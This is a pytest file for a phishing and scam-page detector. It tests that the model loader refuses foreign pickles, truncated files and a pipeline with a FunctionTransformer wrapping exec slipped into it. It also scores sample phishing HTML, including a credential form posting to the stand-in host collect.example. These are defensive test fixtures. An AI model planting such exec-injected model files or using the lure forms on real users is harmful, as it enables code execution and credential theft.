"""Model files: only the types the project's own pipelines contain load; anything else is refused."""

from __future__ import annotations

import json
import pickle
import shutil
from pathlib import Path

import numpy as np
import pytest
import skops.io as sio
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer

from detector.detector import Detector, default_model_dir
from detector.errors import ModelLoadError
from detector.model import artifact
from detector.model.pipeline import CANDIDATES, TEXT_MODELS, Blend
from detector.model.train import TrainConfig, featurize, fit_blend
from detector.records import Snapshot
from detector.research import SAVABLE_ESTIMATORS
from tests.conftest import ROOT


@pytest.fixture(scope="module")
def small_data():
    from detector.model.data import load_corpus

    rows = load_corpus(ROOT / "data")
    picked = rows[:: max(1, len(rows) // 120)]
    assert {e.label for e in picked} == {"scam", "benign"}
    return featurize(picked)


def _types_of(model: Blend, tmp: Path) -> set[str]:
    path = tmp / "m.skops"
    sio.dump(model.to_state(), path)
    return artifact.stored_types(path) | set(sio.get_untrusted_types(file=path))


def _small(cls: type) -> object:
    params = {"n_estimators": 3} if "n_estimators" in cls().get_params() else {}
    return cls(**params)


def test_allow_list_is_exactly_what_training_produces(small_data, tmp_path):
    seen: set[str] = set()
    configs = [TrainConfig(signals=s, text_models=tuple(TEXT_MODELS)) for s in CANDIDATES]
    # The research API's savable estimators: small, signals only (the text types are above).
    configs += [TrainConfig(estimator=_small(cls), text_models=()) for cls in SAVABLE_ESTIMATORS]
    for cfg in configs:
        model = fit_blend(small_data, np.arange(len(small_data.examples)), 0.5, cfg)
        seen |= _types_of(model, tmp_path)
    assert seen <= artifact.ALLOWED_TYPES, sorted(seen - artifact.ALLOWED_TYPES)
    # No slack: every allowed type is one a trained model actually stores.
    assert seen >= artifact.ALLOWED_TYPES, sorted(artifact.ALLOWED_TYPES - seen)


def _copy_shipped(tmp_path: Path) -> Path:
    dst = tmp_path / "m"
    shutil.copytree(default_model_dir(), dst)
    return dst


def _rehash(model_dir: Path) -> None:
    """What someone who can write the directory would do: update the sidecar's hash."""
    side = json.loads((model_dir / artifact.SIDECAR).read_text())
    side["model_sha256"] = artifact.sha256_file(model_dir / artifact.MODEL_FILE)
    (model_dir / artifact.SIDECAR).write_text(json.dumps(side))


def test_code_execution_hidden_in_a_pipeline_is_refused(tmp_path):
    dst = _copy_shipped(tmp_path)
    state = Detector.load().artifact.model.to_state()
    state["signals"] = Pipeline([("run", FunctionTransformer(func=exec)), *state["signals"].steps])
    sio.dump(state, dst / artifact.MODEL_FILE)
    _rehash(dst)
    with pytest.raises(ModelLoadError, match="never stores"):
        artifact.load(dst)


@pytest.mark.parametrize("kind", ["pickle", "truncated", "empty"])
def test_broken_or_foreign_files_are_refused(tmp_path, kind):
    dst = _copy_shipped(tmp_path)
    file = dst / artifact.MODEL_FILE
    if kind == "pickle":
        file.write_bytes(pickle.dumps({"format": "blend-v1"}))
    elif kind == "truncated":
        file.write_bytes(file.read_bytes()[:4000])
    else:
        file.write_bytes(b"")
    _rehash(dst)
    with pytest.raises(ModelLoadError):
        artifact.load(dst)


@pytest.mark.parametrize("sidecar", ["[]", '"text"', "3"])
def test_sidecar_that_is_not_an_object_is_refused(tmp_path, sidecar):
    dst = _copy_shipped(tmp_path)
    (dst / artifact.SIDECAR).write_text(sidecar)
    with pytest.raises(ModelLoadError, match="not a JSON object"):
        artifact.load(dst)


def test_cli_exits_2_on_a_refused_model(tmp_path, capsys):
    from detector.cli import main

    dst = _copy_shipped(tmp_path)
    (dst / artifact.MODEL_FILE).write_bytes(pickle.dumps([1, 2]))
    _rehash(dst)
    inp = tmp_path / "in.jsonl"
    inp.write_text(json.dumps({"html": "<p>hello</p>"}) + "\n")
    assert main(["score", "--input", str(inp), "--model", str(dst)]) == 2
    assert "Traceback" not in capsys.readouterr().err


def test_wording_reason_names_the_words(shipped):
    lure = (
        "<title>See who viewed your TikTok profile</title><h1>Free TikTok profile viewer</h1>"
        "<p>Enter your username and password to see everyone who viewed your profile and "
        "get free followers now. Verify you are human to unlock.</p>"
        "<form action='https://collect.example/p.php' method=post><input name=username>"
        "<input type=password name=password><button>Unlock</button></form>"
    )
    verdict = shipped.score(Snapshot(html=lure))
    assert verdict.label != "benign"
    wording = [r for r in verdict.reasons if r.code == "text.wording"]
    assert wording and wording[0].weight > 0 and wording[0].evidence
    assert "text model" in wording[0].message


def test_the_wording_reason_quotes_telling_words_first(shipped):
    from detector.model.explain import telling

    explainer = shipped.explainer
    up = ["from", "getelementbyid", "login php", "php", "instagram followers", "100", "verify"]
    reason = explainer.wording(1.5, up, ["recipes"], "scam")
    assert reason is not None and reason.weight == 1.5
    assert reason.evidence == "login php, instagram followers, verify"
    assert "'login php', 'instagram followers', 'verify'" in reason.message
    # Only markup, code and function words moved it: those are quoted rather than nothing.
    plain = explainer.wording(1.5, ["php method", "document getelementbyid", "from"], [], "scam")
    assert plain is not None and plain.evidence == "php method, document getelementbyid, from"
    toward_benign = explainer.wording(-0.8, up, ["the", "recipes", "of the"], "benign")
    assert toward_benign is not None and toward_benign.evidence == "recipes"
    assert telling("who viewed") and telling("your tiktok") and not telling("input hidden")


def test_a_kit_whose_wording_model_reads_code_is_explained_in_words(shipped):
    kit = (
        "<title>Instagram</title><form id=f><input name=username placeholder='Phone number, "
        "username, or email'><input type=password name=password><button>Log in</button></form>"
        "<script>document.getElementById('f').onsubmit = function (e) { e.preventDefault();"
        " var u = document.getElementById('u').value; fetch('login.php', {method: 'POST'}); }"
        "</script>"
    )
    verdict = shipped.score(Snapshot(html=kit))
    wording = [r for r in verdict.reasons if r.code == "text.wording"]
    assert wording and wording[0].evidence
    from detector.model.explain import telling

    assert all(telling(w) for w in wording[0].evidence.split(", ")), wording[0].evidence
